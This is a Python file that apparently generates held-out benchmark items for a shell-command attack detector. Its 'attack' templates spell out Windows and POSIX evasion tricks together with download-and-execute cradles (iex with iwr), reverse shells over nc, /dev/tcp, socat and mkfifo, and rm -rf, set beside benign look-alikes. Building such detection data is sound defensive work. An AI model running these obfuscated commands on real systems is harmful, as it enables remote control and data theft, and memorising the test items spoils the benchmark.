"""Batch and PowerShell, and disguises of POSIX shells."""

from __future__ import annotations

from benchmarks.requests.heldout.grammar import Group
from benchmarks.requests.heldout.shell_rules import RULES
from benchmarks.requests.heldout.words import mixed_case

windows = Group("windows_commands", RULES)
attack, benign = windows.attack, windows.benign

attack(
    "for_loop",
    '‹@sep›for /‹L¦F¦R¦D› ‹¦"tokens=‹@n›" ¦"delims=" ›%‹v:=‹@v›› in (‹1,1,‹@n›¦\'‹@dos›\'¦*.‹txt¦ini¦log›¦C:\\*›) do ‹¦@›‹@dos›‹ %‹§v›¦›',
    "vvvrn",
)
attack(
    "if_condition",
    "‹@sep›if ‹¦not ›‹exist C:\\‹@winfile›¦defined ‹@winvar›¦%‹@winvar›%==‹@tok›¦errorlevel ‹@n›› ‹(‹@dos›)¦@dos› ‹¦else (‹@dos›)›",
    "vvvrn",
)
attack("set_and_expand", "‹@sep›set ‹¦/a ›‹v:=‹@tok››=‹@dos›‹&&¦&¦ & ›‹call ¦cmd /v /c !‹§v›!&&¦›%‹§v›%", "vv")
attack(
    "substring_of_variable",
    "‹@sep›%‹@winvar›:~‹@n8›,‹1¦-1¦2›%%‹@winvar›:~‹0¦-1¦3›,1%‹ ¦›‹@winfile›",
    "vv",
    rewrite=mixed_case,
)
attack(
    "alias_pipeline",
    "‹@sep›‹gci¦ls¦dir¦gc¦cat¦type› ‹C:\\‹@winfile›¦env:¦HKLM:\\SOFTWARE¦. -r› ‹¦-ea 0 ›| ‹%¦?¦foreach¦where› {‹$_.Name¦‹iex¦ri¦gc› $_¦$_ -match '‹@tok›'¦iwr http://‹@host›/$_›}",
    "vvvrn",
)
attack(
    "alias_download",
    "‹@sep›‹iex¦IEX¦&¦. › (‹iwr¦irm¦curl¦wget› ‹¦-UseBasicParsing ¦-useb ›'‹http¦https›://‹@host›/‹@tok›.‹ps1¦txt¦png›')‹¦.Content›",
    "vva",
)

benign(
    "batch_in_prose",
    "‹what does¦how to use¦error with› ‹for /f¦set /a¦errorlevel¦if exist¦goto¦%PATH%¦call› ‹in a¦in› ‹batch file¦cmd script¦Windows ‹@n››‹¦?¦ explained›",
    "vvvrn",
)
benign("windows_paths", "‹D:\\¦\\\\nas\\¦E:\\›‹@noun›s\\‹@topic› ‹@n›\\‹@adj›-‹@noun›.‹docx¦pdf¦xlsx¦jpg›", "vv")
benign("if_in_prose", "if ‹not ¦it does not exist, ¦›‹@prose› ‹else¦then› ‹@adj› ‹@noun›", "vvvrn")
benign(
    "powershell_topics",
    "‹Get-ChildItem¦Get-Content¦Invoke-WebRequest¦ForEach-Object¦Where-Object› ‹vs¦tutorial¦example¦alias¦parameters› ‹@n›‹¦ ‹@lang››",
    "vvp",
)

posix = Group("shell_disguises", RULES)
attack, benign = posix.attack, posix.benign

attack(
    "brace_words",
    "‹@sep›{‹cat,‹@unixfile›¦ls,-l‹a¦h¦R›,/‹@tok›¦wget,http://‹@host›/‹@tok›¦nc,-e,/bin/sh,‹@ip›,‹@n›¦rm,-rf,/‹@tok››}‹¦|‹base64¦xxd¦od››",
    "vvvrn",
)
attack(
    "empty_variables",
    "‹@sep›‹e:=‹$@¦${‹@tok›}¦$*¦$()¦``¦\"\"¦''››‹c$¦w¦u›‹‹c‹§e›at¦i‹§e›d¦un‹§e›ame -a¦wh‹§e›oami¦l‹§e›s -la¦ta‹§e›c››$IFS‹¦$9›‹@unixfile›",
    "vv",
)
attack(
    "rare_tools",
    "‹@sep›‹tac¦nl¦rev¦paste¦od -c¦xxd¦base32¦cut -c1-‹@n›¦fold -w‹@n›¦pr¦comm¦strings¦column¦uniq¦diff /dev/null¦look ''¦busybox ‹cat¦tac¦nl›› ‹@unixfile›",
    "vvvrn",
)
attack("variables_spell", "‹@sep›‹x:=‹@tok››=‹ca¦who¦l¦un›;‹y:=‹@v›‹@n››=‹t¦ami¦s¦ame›;$‹§x›$‹§y› ‹@unixfile›", "vv")
attack(
    "slice_of_variable",
    "‹@sep›${‹PATH¦HOME¦PWD¦SHELL›:‹0¦1¦5¦-1›:1}‹bin¦usr¦tmp›${‹PATH¦HOME¦PWD›:0:1}‹c?t¦i?¦l[s]¦wh??mi¦n?¦ta*› ‹@unixfile›",
    "vv",
)
attack(
    "network_shell",
    "‹@sep›‹bash -i >& /dev/tcp/‹@ip›/‹@n› 0>&1¦exec ‹@n8›<>/dev/tcp/‹@ip›/‹@n›;cat <&‹@n8›¦socat tcp:‹@ip›:‹@n› exec:sh¦telnet ‹@ip› ‹@n›|sh¦mkfifo /tmp/‹@tok›;nc ‹@ip› ‹@n› </tmp/‹@tok›|sh›",
    "vva",
)

benign("braces_of_templates", "‹/users/¦›{‹id¦user¦lang¦city›}/‹@noun›s/{‹n¦item¦page›}‹¦?q={q}›‹¦ ‹@n››", "vvp")
benign(
    "dollars_in_prose",
    "‹@noun› ‹under¦for¦from¦below› $‹@n›‹¦ & free shipping¦; ‹@adj››‹¦ or €‹@n›¦ (was $‹@n›)›",
    "vvvrn",
)
benign(
    "unix_topics",
    "‹cat¦tail¦cut¦paste¦fold¦strings¦column¦head¦uniq¦nice¦look¦rev› ‹@adj› ‹@noun›‹¦s› ‹for¦in¦and› ‹@city›",
    "vvvrn",
)
benign("semicolons", "‹@person›; ‹@person› & ‹@person› | ‹@topic›‹;¦ ›‹@n›‹¦ -- ‹@adj››", "vvvrn")
